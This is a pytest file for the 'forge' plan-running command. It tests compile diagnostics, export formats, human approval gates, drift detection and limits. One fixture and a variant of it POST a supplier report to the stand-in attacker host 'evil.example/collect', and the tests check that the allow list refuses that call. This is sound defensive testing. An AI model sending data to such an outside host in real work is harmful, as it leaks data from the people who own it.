"""The ``forge`` command, run as a user runs it: a subprocess without Django settings."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from forge.cli import _read_within
from tests.fixtures.ledger import mcp_servers_file, time_entry

REPO = Path(__file__).resolve().parents[3]
EXAMPLES = REPO / "examples"


def forge(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("DJANGO")}
    return subprocess.run(
        [sys.executable, "-m", "forge.cli", *args],
        capture_output=True, text=True, env=env, cwd=cwd or REPO, timeout=120,
    )  # fmt: skip


def write(path: Path, text: str) -> Path:
    path.write_text(text)
    return path


CYCLE = """
goal: Ship the parser fix
steps:
  - {id: inspect, description: Read the parser source, tool: noop, depends_on: [test]}
  - {id: code, description: Patch the parser, tool: noop, depends_on: [inspect]}
  - {id: test, description: Run the parser tests, tool: noop, depends_on: [code]}
"""


def test_compile_exits_0_for_a_clean_plan():
    result = forge("compile", "examples/release-notes.yaml")

    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines()[0] == "examples/release-notes.yaml: compiles"


def test_compile_prints_the_impact_of_a_plan_that_compiles():
    result = forge("compile", "examples/release-notes.yaml")

    lines = result.stdout.splitlines()
    assert lines[1] == "examples/release-notes.yaml: impact"
    impact = "\n".join(lines[2:])
    assert "  scopes: compute, file_read, file_write, shell" not in impact  # no echo here
    assert "  scopes: file_read, file_write, shell" in impact
    assert "  files written: CHANGELOG.txt, RELEASE-NOTES.md" in impact
    assert "  commands: wc -l CHANGELOG.txt" in impact
    assert "  side effects: read 1, write 3" in impact
    assert "  duration: unknown (4 steps have no duration estimate)" in impact


def test_compile_json_carries_the_impact_and_hints(tmp_path):
    plan = write(
        tmp_path / "plan.yaml",
        "goal: Publish\nsteps:\n  - {id: w, description: Write the board review, tool: "
        "file_write, args: {path: board.md, content: x}, estimate: {seconds: 40}}\n",
    )

    data = json.loads(forge("compile", str(plan), "--json").stdout)

    assert data["impact"]["files_written"] == ["board.md"]
    assert data["impact"]["duration"] == {
        "seconds": 40.0, "path": ["w"], "unknown": [], "text": "about 40 s",
    }  # fmt: skip
    hints = {d["code"]: d.get("hint", "") for d in data["diagnostics"]}
    assert hints["missing_done_when"].startswith("add done_when")
    assert hints["missing_rollback_hint"].startswith("add rollback_hint")
    text = forge("compile", str(plan)).stdout
    assert "  fix: add rollback_hint: how a person undoes the change" in text


def test_a_long_plan_without_milestones_warns_past_the_environments_size(tmp_path):
    steps = "".join(
        f"  - {{id: s{n}, description: Echo section {n} of the report, tool: echo, "
        f"depends_on: [{'s' + str(n - 1) if n else ''}], done_when: {{required_keys: [n]}}, "
        f"args: {{n: {n}}}}}\n"
        for n in range(4)
    )
    plan = write(tmp_path / "plan.yaml", f"goal: Long\nsteps:\n{steps}")

    quiet = forge("compile", str(plan))
    env = {**os.environ, "FORGE_MILESTONE_WARN_STEPS": "3"}
    env = {k: v for k, v in env.items() if not k.startswith("DJANGO")}
    loud = subprocess.run(
        [sys.executable, "-m", "forge.cli", "compile", str(plan)],
        capture_output=True, text=True, env=env, cwd=REPO, timeout=120,
    )  # fmt: skip

    assert "plan_without_milestones" not in quiet.stdout
    assert "warning[plan_without_milestones] plan has 4 steps and no milestones" in loud.stdout


def test_compile_exits_1_and_names_each_problem_and_its_steps(tmp_path):
    result = forge("compile", str(write(tmp_path / "plan.yaml", CYCLE)))

    assert result.returncode == 1
    lines = result.stdout.splitlines()
    assert (
        lines[0].endswith("error[cycle] dependency cycle: code -> test -> inspect -> code")
        or "cycle" in lines[0]
    )
    assert "inspect" in lines[0] and "code" in lines[0] and "test" in lines[0]
    assert lines[-1].endswith("does not compile (1 error)") or "does not compile" in lines[-1]


def test_compile_json_gives_the_diagnostics_as_data(tmp_path):
    result = forge("compile", str(write(tmp_path / "plan.yaml", CYCLE)), "--json")

    data = json.loads(result.stdout)
    assert data["ok"] is False
    assert data["graph"] is None
    [cycle] = [d for d in data["diagnostics"] if d["code"] == "cycle"]
    assert cycle["severity"] == "error"
    assert sorted(cycle["nodes"]) == ["code", "inspect", "test"]
    assert len(cycle["edges"]) == 3


POST_TO_EVIL = """
goal: Send the report
steps:
  - id: send
    description: Send the supplier report to the purchasing service
    tool: http_request
    args: {method: POST, url: "https://evil.example/collect", body: {report: ok}}
    done_when: {required_keys: [status]}
    rollback_hint: Ask purchasing to delete the report
"""


def test_compile_refuses_a_host_off_the_allow_list_with_the_setting_to_change(tmp_path):
    # Issue 25, item 3: this compiled without a word and was refused only at run time.
    plan = write(tmp_path / "plan.yaml", POST_TO_EVIL)

    result = forge("compile", str(plan))

    assert result.returncode == 1, result.stdout
    assert (
        f"{plan}: error[host_not_allowed] step 'send' calls http_request, which will refuse "
        "it: host 'evil.example' (port 443) is not on the allow list"
    ) in result.stdout.splitlines()
    assert (
        f"{plan}:   fix: add evil.example (any port) or evil.example:443 to "
        "FORGE_HTTP_ALLOWED_HOSTS (the forge command: --allow-host evil.example), or call a "
        "host on the list" in result.stdout.splitlines()
    )


def test_compile_reaches_the_hosts_of_the_environment_and_of_allow_host(tmp_path):
    plan = write(tmp_path / "plan.yaml", POST_TO_EVIL)
    env = {k: v for k, v in os.environ.items() if not k.startswith("DJANGO")}
    env["FORGE_HTTP_ALLOWED_HOSTS"] = "api.example.com, evil.example"

    flag = forge("compile", str(plan), "--allow-host", "evil.example")
    setting = subprocess.run(
        [sys.executable, "-m", "forge.cli", "compile", str(plan)],
        capture_output=True, text=True, env=env, cwd=REPO, timeout=120,
    )  # fmt: skip

    assert flag.returncode == 0, flag.stdout
    assert setting.returncode == 0, setting.stdout
    assert "host_not_allowed" not in flag.stdout + setting.stdout


def test_run_cannot_approve_a_call_to_a_host_taken_from_an_earlier_step(tmp_path):
    plan = write(
        tmp_path / "plan.yaml",
        """
goal: Send the report
steps:
  - {id: find, description: Find the purchasing endpoint, tool: echo,
     args: {url: "https://evil.example/collect"}, done_when: {required_keys: [url]}}
  - id: send
    description: Send the report to the endpoint found
    depends_on: [find]
    tool: http_request
    args: {method: POST, url: {$from: find, path: url}, body: {report: ok}}
    rollback_hint: Ask purchasing to delete the report
""",
    )

    result = forge("run", str(plan), "--workspace", str(tmp_path / "ws"), "--approve-as", "carol")

    assert result.returncode == 4, result.stdout
    assert "approved step send" not in result.stdout
    lines = result.stdout.splitlines()
    assert (
        "waiting for a person: step 'send' cannot be approved: its call will be refused; an "
        "approver who did not write this version may reject it to replan (step 'send' cannot "
        "be approved: its call will be refused (host 'evil.example' (port 443) is not on the "
        "allow list [host_not_allowed]); add evil.example (any port) or evil.example:443 to "
        "FORGE_HTTP_ALLOWED_HOSTS (the forge command: --allow-host evil.example), or call a "
        "host on the list. Reject it to replan)"
    ) in lines
    assert (
        "send cannot run: host 'evil.example' (port 443) is not on the allow list "
        "[host_not_allowed]"
    ) in lines


DECISION = """\
flowchart TD
    fetch[Fetch the supplier record] --> check{Is the record complete?}
    check -->|yes| score[Score the supplier]
    check -->|no| ask[Ask the supplier for the missing data]
"""


def test_compile_warns_of_a_flattened_mermaid_decision_and_keeps_its_exit_code(tmp_path):
    # Issue 25, item 8: both branches of a decision run; import says so.
    chart = write(tmp_path / "plan.mmd", DECISION)

    text = forge("compile", str(chart))
    data = json.loads(forge("compile", str(chart), "--json").stdout)

    assert text.returncode == 1  # agent steps without tools: errors, as before
    assert (
        f"{chart}: warning[flattened_decision] decision 'check' (\"Is the record complete?\") "
        "is imported as an ordinary step: a plan has no conditions, so both of its branches "
        "run after it: 'score' (yes) and 'ask' (no)"
    ) in text.stdout.splitlines()
    assert f"{chart}:   fix: keep the branch that should run" in text.stdout
    [flattened] = [d for d in data["diagnostics"] if d["code"] == "flattened_decision"]
    assert flattened["nodes"] == ["check", "score", "ask"]


def test_export_keeps_the_branch_labels_and_warns_on_stderr(tmp_path):
    chart = write(tmp_path / "plan.mmd", DECISION)

    result = forge("export", str(chart), "--to", "yaml")

    assert result.returncode == 0, result.stderr
    assert "Score the supplier (if Is the record complete?: yes)" in result.stdout
    assert result.stderr.startswith(f"forge: {chart}: warning[flattened_decision] decision 'check'")


def test_compile_of_the_seed_example_reports_warnings_only_when_its_tools_exist():
    result = forge("compile", "examples/agent-step-in-chinese.json", "--json")

    codes = {d["code"] for d in json.loads(result.stdout)["diagnostics"]}
    assert "unverifiable_done_when" in codes


def test_unreadable_input_exits_2(tmp_path):
    assert forge("compile", str(tmp_path / "missing.yaml")).returncode == 2
    broken = forge("compile", str(write(tmp_path / "broken.json", "{")))
    assert broken.returncode == 2
    assert "invalid_json" in broken.stderr


def test_a_plan_nested_absurdly_deep_exits_2_naming_the_limit_not_a_traceback(tmp_path):
    levels = 100_000
    args = '{"a":' * levels + "1" + "}" * levels
    plan = '{"goal": "g", "steps": [{"id": "a", "tool": "echo", "args": ' + args + "}]}"

    for command in ("compile", "run", "export"):
        extra = {"run": ("--approve-as", "ada"), "export": ("--to", "yaml")}.get(command, ())
        result = forge(command, str(write(tmp_path / "deep.json", plan)), *extra)

        assert result.returncode == 2, result.stderr
        assert "document_too_deep" in result.stderr
        assert "Traceback" not in result.stderr


def test_the_step_limit_is_a_flag_and_its_refusal_names_it(tmp_path):
    result = forge("compile", "examples/release-notes.yaml", "--max-steps", "2")

    assert result.returncode == 2
    assert "max_steps" in result.stderr


def test_a_long_plan_is_refused_for_its_steps_naming_the_flag_that_raises_the_limit(tmp_path):
    # 42 nodes a step: 12,600 in all, over the 10,000 nodes 200 steps allow
    args = {f"k{k}": k for k in range(16)}
    steps = [
        {"id": f"s{n}", "tool": "echo", "args": args, "depends_on": [f"s{n - 1}"] if n else []}
        for n in range(300)
    ]
    plan = write(tmp_path / "long.json", json.dumps({"goal": "long", "steps": steps}))

    refused = forge("compile", str(plan), "--max-steps", "200")

    assert refused.returncode == 2
    assert "document has 300 steps, over the limit of 200 steps" in refused.stderr
    assert "(max_steps; --max-steps sets it) [too_many_steps]" in refused.stderr
    assert forge("compile", str(plan), "--max-steps", "300").returncode == 0


def test_the_size_limit_is_a_flag_and_its_refusal_names_it():
    result = forge("compile", "examples/release-notes.yaml", "--max-bytes", "100")

    assert result.returncode == 2
    assert "(max_bytes; --max-bytes sets it)" in result.stderr


@pytest.mark.parametrize(("size", "read"), [(0, 0), (5, 5), (10, 10), (11, 11), (4096, 11)])
def test_a_plan_file_is_read_whole_within_the_limit_and_one_byte_past_it_otherwise(
    tmp_path, size, read
):
    path = tmp_path / "plan.json"
    path.write_bytes(b"x" * size)

    with path.open("rb") as stream:
        assert _read_within(stream, 10) == b"x" * read


def test_a_stream_without_a_size_is_read_one_byte_past_the_limit():
    reader, writer = os.pipe()
    os.write(writer, b"x" * 64)
    os.close(writer)

    with os.fdopen(reader, "rb") as stream:
        assert _read_within(stream, 10) == b"x" * 11


@pytest.mark.parametrize("target", ["mermaid", "dot", "json", "yaml"])
def test_export_writes_each_format(target):
    result = forge("export", "examples/release-notes.yaml", "--to", target)

    assert result.returncode == 0, result.stderr
    marker = {"mermaid": "flowchart TD", "dot": "digraph", "json": '"goal"', "yaml": "goal:"}
    assert marker[target] in result.stdout


def test_an_exported_plan_imports_back_unchanged(tmp_path):
    exported = forge("export", "examples/release-notes.yaml", "--to", "mermaid").stdout
    (tmp_path / "plan.mmd").write_text(exported)

    back = forge("export", str(tmp_path / "plan.mmd"), "--to", "json").stdout
    original = forge("export", "examples/release-notes.yaml", "--to", "json").stdout
    assert json.loads(back) == json.loads(original)


def test_run_executes_a_plan_with_real_files_and_exits_0(tmp_path):
    result = forge("run", "examples/release-notes.yaml", "--workspace", str(tmp_path),
                   "--approve-as", "carol")  # fmt: skip

    assert result.returncode == 0, result.stdout + result.stderr
    # publish wrote what read returned (the changelog step's text), after a heading
    assert (tmp_path / "RELEASE-NOTES.md").read_text() == (
        "# 2.4\n\nfix: parser handles empty plans\nfeat: mermaid export\n"
    )
    assert "run succeeded" in result.stdout


def test_run_prints_what_it_approves_in_a_persons_name(tmp_path):
    result = forge("run", "examples/release-notes.yaml", "--workspace", str(tmp_path),
                   "--approve-as", "carol")  # fmt: skip

    assert "approved version 1 as carol:" in result.stdout
    assert "    content sha256:" in result.stdout
    assert "    publish: file_write (write)" in result.stdout
    assert "    count: shell (write)" in result.stdout


def test_run_of_a_plan_nobody_approved_runs_nothing_and_exits_4(tmp_path):
    result = forge("run", "examples/release-notes.yaml", "--workspace", str(tmp_path))

    assert result.returncode == 4
    assert "waiting for a person: version 1 is not approved" in result.stdout
    assert list(tmp_path.iterdir()) == []


def test_the_author_of_a_plan_cannot_approve_it(tmp_path):
    result = forge("run", "examples/release-notes.yaml", "--workspace", str(tmp_path),
                   "--author", "carol", "--approve-as", "carol")  # fmt: skip

    assert result.returncode == 4
    assert "carol wrote version 1 and cannot approve it" in result.stdout
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("approver", ["CAROL", " carol", "Carol "])
def test_the_author_spelled_another_way_cannot_approve_it_either(tmp_path, approver):
    result = forge("run", "examples/release-notes.yaml", "--workspace", str(tmp_path),
                   "--author", "carol", "--approve-as", approver)  # fmt: skip

    assert result.returncode == 4
    assert "wrote version 1 and cannot approve it" in result.stdout
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("flags", [("--approve-as", ""), ("--approve-as", "  "),
                                   ("--approve-as", "bob", "--author", " ")])  # fmt: skip
def test_an_empty_name_is_refused_before_anything_runs(tmp_path, flags):
    result = forge("run", "examples/release-notes.yaml", "--workspace", str(tmp_path), *flags)

    assert result.returncode == 2
    assert "a person's name" in result.stderr
    assert list(tmp_path.iterdir()) == []


FAILING = """
goal: Summarise the supplier contracts
steps:
  - id: gather
    description: Collect the contract facts
    tool: echo
    args: {facts: [a, b]}
  - id: score
    description: Score the supplier risk from the facts
    tool: echo
    args: {risk: 42}
    depends_on: [gather]
    done_when: {checks: ["risk <= `10`"]}
  - id: report
    description: Write the risk report
    tool: file_write
    args: {path: report.md, content: low risk}
    depends_on: [score]
"""


def test_run_stops_at_a_failed_contract_with_exit_3_and_the_reset_and_preserved_sets(tmp_path):
    result = forge("run", str(write(tmp_path / "plan.yaml", FAILING)), "--workspace",
                   str(tmp_path / "ws"), "--approve-as", "carol")  # fmt: skip

    assert result.returncode == 3
    assert "step score invalid: check 1 failed" in result.stdout
    assert "reset: report, score" in result.stdout
    assert "preserved: gather" in result.stdout


def test_a_check_that_cannot_be_evaluated_needs_a_replan_with_exit_3_and_says_why(tmp_path):
    plan = write(
        tmp_path / "plan.yaml",
        """
goal: Check the supplier
steps:
  - id: inspect
    description: Read the supplier's name
    tool: echo
    args: {name: Initech}
    done_when: {checks: ["contains(supplier, 'ACME')"]}
""",
    )

    result = forge("run", str(plan), "--approve-as", "ada")

    assert result.returncode == 3, result.stderr
    assert "Traceback" not in result.stderr
    assert "contains(supplier, 'ACME') with supplier = null: cannot be evaluated" in (
        result.stdout + result.stderr
    )


def test_run_continues_through_a_scripted_replan_without_rerunning_preserved_steps(tmp_path):
    first = write(tmp_path / "v1.yaml", FAILING)
    second = write(tmp_path / "v2.yaml", FAILING.replace("risk: 42", "risk: 3"))

    result = forge("run", str(first), "--planner", f"scripted:{second}",
                   "--workspace", str(tmp_path / "ws"), "--approve-as", "carol")  # fmt: skip

    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.count("ok        gather") == 1
    assert "approved version 2 as carol:" in result.stdout
    assert "run succeeded (v2)" in result.stdout
    assert (tmp_path / "ws" / "report.md").read_text() == "low risk"


GATED = FAILING + "requires_approval_before: [file_write]\n"


def test_a_replan_that_drops_an_approval_requirement_rolls_back_and_waits_for_a_person(tmp_path):
    # The repro: v2 drops requires_approval_before, so its publication would run
    # unapproved. Approving "everything" does not cover drift: the run stays on v1.
    first = write(tmp_path / "v1.yaml", GATED)
    second = write(tmp_path / "v2.yaml", FAILING.replace("risk: 42", "risk: 3"))

    result = forge("run", str(first), "--planner", f"scripted:{second}",
                   "--workspace", str(tmp_path / "ws"), "--approve-as", "carol")  # fmt: skip

    assert result.returncode == 4, result.stdout + result.stderr
    assert (
        "plan drift: version 2 approval before 'file_write' is no longer required" in result.stdout
    )
    assert "stays on version 1, the last approved one" in result.stdout
    assert "approved version 2" not in result.stdout
    assert not (tmp_path / "ws" / "report.md").exists()


def test_a_person_may_accept_drift_explicitly_and_it_is_printed(tmp_path):
    first = write(tmp_path / "v1.yaml", GATED)
    second = write(tmp_path / "v2.yaml", FAILING.replace("risk: 42", "risk: 3"))

    result = forge("run", str(first), "--planner", f"scripted:{second}", "--workspace",
                   str(tmp_path / "ws"), "--approve-as", "carol", "--accept-drift")  # fmt: skip

    assert result.returncode == 0, result.stdout + result.stderr
    assert "approved version 2 as carol:" in result.stdout
    assert "drift accepted: approval before 'file_write' is no longer required" in result.stdout


def test_a_policy_may_continue_a_read_only_replan_and_says_so(tmp_path):
    reading = FAILING.replace(
        "tool: file_write\n    args: {path: report.md, content: low risk}",
        "tool: noop\n    args: {}",
    )
    first = write(tmp_path / "v1.yaml", reading)
    second = write(tmp_path / "v2.yaml", reading.replace("risk: 42", "risk: 3"))
    policy = write(
        tmp_path / "policy.yaml",
        "allow: {compute: ['*'], file_write: ['*']}\nauto_approve_replans: read_only\n",
    )

    result = forge("run", str(first), "--planner", f"scripted:{second}", "--policy", str(policy),
                   "--workspace", str(tmp_path / "ws"), "--approve-as", "carol")  # fmt: skip

    assert result.returncode == 0, result.stdout + result.stderr
    assert "approved version 2 as policy:" in result.stdout
    assert "run succeeded (v2)" in result.stdout


def test_run_of_a_plan_with_errors_runs_nothing_and_exits_1(tmp_path):
    result = forge("run", str(write(tmp_path / "plan.yaml", CYCLE)))

    assert result.returncode == 1
    assert "error[cycle]" in result.stdout


def test_run_waits_for_approval_with_exit_4_unless_someone_approves(tmp_path):
    plan = write(
        tmp_path / "plan.yaml",
        FAILING.replace("risk: 42", "risk: 1") + "requires_approval_before: [file_write]\n",
    )

    waiting = forge("run", str(plan), "--workspace", str(tmp_path / "a"))
    approved = forge("run", str(plan), "--workspace", str(tmp_path / "b"), "--approve-as", "carol")

    assert waiting.returncode == 4
    assert "waiting for a person: version 1 is not approved" in waiting.stdout
    assert not (tmp_path / "a" / "report.md").exists()
    assert approved.returncode == 0, approved.stdout
    assert (tmp_path / "b" / "report.md").read_text() == "low risk"


def test_approving_a_waiting_write_prints_the_diff_it_approves(tmp_path):
    plan = write(
        tmp_path / "plan.yaml",
        FAILING.replace("risk: 42", "risk: 1") + "requires_approval_before: [file_write]\n",
    )

    result = forge("run", str(plan), "--workspace", str(tmp_path / "ws"), "--approve-as", "carol")

    assert result.returncode == 0, result.stdout
    lines = result.stdout.splitlines()
    at = lines.index("approved step report as carol:")
    assert lines[at + 1 : at + 4] == [
        "    --- /dev/null",
        "    +++ b/report.md",
        "    @@ -0,0 +1 @@",
    ]
    assert "    +low risk" in lines


def test_a_broken_policy_file_exits_2_and_names_it(tmp_path):
    policy = write(tmp_path / "policy.yaml", "allow: [unclosed")

    result = forge("compile", "examples/release-notes.yaml", "--policy", str(policy))

    assert result.returncode == 2
    assert "cannot read policy" in result.stderr and "policy.yaml" in result.stderr


def test_a_policy_file_decides_what_compiles(tmp_path):
    policy = write(tmp_path / "policy.yaml", "allow:\n  compute: ['*']\n")

    result = forge("compile", "examples/release-notes.yaml", "--policy", str(policy))

    assert result.returncode == 1
    assert "error[unauthorized_tool]" in result.stdout


MCP_PLAN = """
goal: Tell the time in Paris for the release note
requires_approval_before: [mcp.time]
steps:
  - id: now
    description: Read the current time in Paris from the time server
    tool: time.get_current_time
    args: {timezone: Europe/Paris}
"""


def test_an_mcp_tool_passes_the_same_gate_and_shows_its_preview(tmp_path):
    plan = write(tmp_path / "plan.yaml", MCP_PLAN)
    policy = write(tmp_path / "policy.yaml", "allow: {mcp.time: ['*']}\n")
    server = f"time={sys.executable} -m mcp_server_time --local-timezone UTC"
    flags = ("--mcp", server, "--policy", str(policy), "--workspace", str(tmp_path / "ws"))

    waiting = forge("run", str(plan), *flags)
    approved = forge("run", str(plan), *flags, "--approve-as", "carol")

    assert waiting.returncode == 4, waiting.stdout + waiting.stderr
    assert "waiting for a person: version 1 is not approved" in waiting.stdout
    assert "started   now" not in waiting.stdout
    assert approved.returncode == 0, approved.stdout + approved.stderr
    assert "approved step now as carol:" in approved.stdout
    assert "    MCP server 'time', tool 'get_current_time'" in approved.stdout
    assert "    read as: side effect read, risk low, idempotent" in approved.stdout


def test_the_time_server_from_pypi_configured_by_file_compiles_previews_and_runs(tmp_path):
    """The same ``mcpServers`` file a deployment names in FORGE_MCP_SERVERS."""
    plan = write(tmp_path / "plan.yaml", MCP_PLAN)
    policy = write(tmp_path / "policy.yaml", "allow: {mcp.time: ['*']}\n")
    servers = mcp_servers_file(tmp_path / "mcp.json", time=time_entry())
    flags = ("--config", str(servers), "--policy", str(policy))

    compiled = forge("compile", str(plan), *flags)
    waiting = forge("run", str(plan), *flags, "--workspace", str(tmp_path / "ws"))
    approved = forge("run", str(plan), *flags, "--workspace", str(tmp_path / "ws"),
                     "--approve-as", "carol")  # fmt: skip

    assert compiled.returncode == 0, compiled.stdout + compiled.stderr
    assert waiting.returncode == 4, waiting.stdout + waiting.stderr
    assert "started   now" not in waiting.stdout
    assert approved.returncode == 0, approved.stdout + approved.stderr
    assert "    MCP server 'time', tool 'get_current_time'" in approved.stdout
    assert "  ok        now" in approved.stdout
    assert "run succeeded (v1)" in approved.stdout


def test_compile_json_is_indented_on_a_terminal_and_one_line_otherwise(tmp_path):
    import contextlib
    import io

    from forge.cli import main

    class Terminal(io.TextIOWrapper):
        def isatty(self) -> bool:
            return True

    path = str(EXAMPLES / "release-notes.yaml")
    piped = forge("compile", path, "--json").stdout
    raw = io.BytesIO()
    terminal = Terminal(raw, encoding="utf-8")
    with contextlib.redirect_stdout(terminal):
        assert main(["compile", path, "--json"]) == 0
    terminal.flush()
    indented = raw.getvalue().decode()

    assert piped.count("\n") == 1 and piped.startswith('{"ok":true,"diagnostics":')
    assert indented.startswith('{\n  "ok": true,\n  "diagnostics": [')
    assert json.loads(indented) == json.loads(piped)


@pytest.mark.parametrize("encoding", ["utf-8", "latin-1", None])
def test_compile_json_prints_the_same_text_to_any_stdout(encoding, tmp_path):
    """The result's bytes go straight to a UTF-8 stdout's buffer; any other stdout gets
    them as text, through print, as before."""
    import contextlib
    import io

    from forge.cli import main

    vague = {"goal": "g", "deliverable": "a", "steps": [{"id": "a", "description": "分析问题"}]}
    path = str(write(tmp_path / "plan.json", json.dumps(vague)))
    expected = forge("compile", path, "--json").stdout
    assert "分析问题" in expected  # quoted by vague_step: text latin-1 cannot hold
    raw = io.BytesIO()
    stdout = io.StringIO() if encoding is None else io.TextIOWrapper(raw, encoding=encoding)
    with contextlib.redirect_stdout(stdout):
        if encoding == "latin-1":
            with pytest.raises(UnicodeEncodeError):
                main(["compile", path, "--json"])
            return
        main(["compile", path, "--json"])
    stdout.flush()
    written = stdout.getvalue() if encoding is None else raw.getvalue().decode()
    assert written == expected


def test_the_help_reads_as_plain_text():
    result = forge("--help")
    assert result.returncode == 0
    assert "The forge command: compile, export, diff and run plan documents" in result.stdout
    assert "``" not in result.stdout


NOTES_V2 = """
goal: Draft the release notes for version 2.5
deliverable: publish
steps:
  - {id: read, description: Read the changelog, tool: file_read, args: {path: CHANGELOG.txt}}
  - id: publish
    description: Publish the notes
    depends_on: [read]
    tool: file_write
    args: {path: NOTES.md, content: "# 2.5\\n\\nfix: a\\n"}
    done_when: {required_keys: [committed], checks: [committed]}
"""
NOTES_V3 = (
    NOTES_V2.replace("fix: a\\n", "fix: a\\nfeat: b\\n").replace(
        "checks: [committed]", "checks: [committed, 'length(path) > `0`']"
    )
    + """  - {id: announce, description: Tell the team, tool: noop, depends_on: [publish]}
"""
)


def test_diff_says_what_changed_as_the_review_card_does(tmp_path):
    old, new = write(tmp_path / "v2.yaml", NOTES_V2), write(tmp_path / "v3.yaml", NOTES_V3)

    result = forge("diff", str(old), str(new))

    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == [
        "+ announce added",
        "~ publish",
        '    args.content: "# 2.5\\n\\nfix: a\\n" → "# 2.5\\n\\nfix: a\\nfeat: b\\n"',
        "    done_when.checks: + length(path) > `0`",
        "+ publish → announce dependency added",
    ]


def test_diff_of_a_plan_with_itself_says_so_and_json_gives_the_apis_diff(tmp_path):
    old, new = write(tmp_path / "v2.yaml", NOTES_V2), write(tmp_path / "v3.yaml", NOTES_V3)

    same = forge("diff", str(old), str(old))
    data = json.loads(forge("diff", str(old), str(new), "--json").stdout)

    assert (same.returncode, same.stdout) == (0, f"{old} and {old}: the same plan\n")
    assert data["added_steps"] == ["announce"]
    assert data["added_edges"] == [["publish", "announce"]]
    assert data["changed_steps"][0]["changes"][1]["lines"] == [
        "done_when.checks: + length(path) > `0`"
    ]


def test_diff_of_an_unreadable_file_exits_2_naming_it(tmp_path):
    result = forge("diff", str(tmp_path / "missing.yaml"), "examples/release-notes.yaml")

    assert result.returncode == 2
    assert "cannot read" in result.stderr and "missing.yaml" in result.stderr
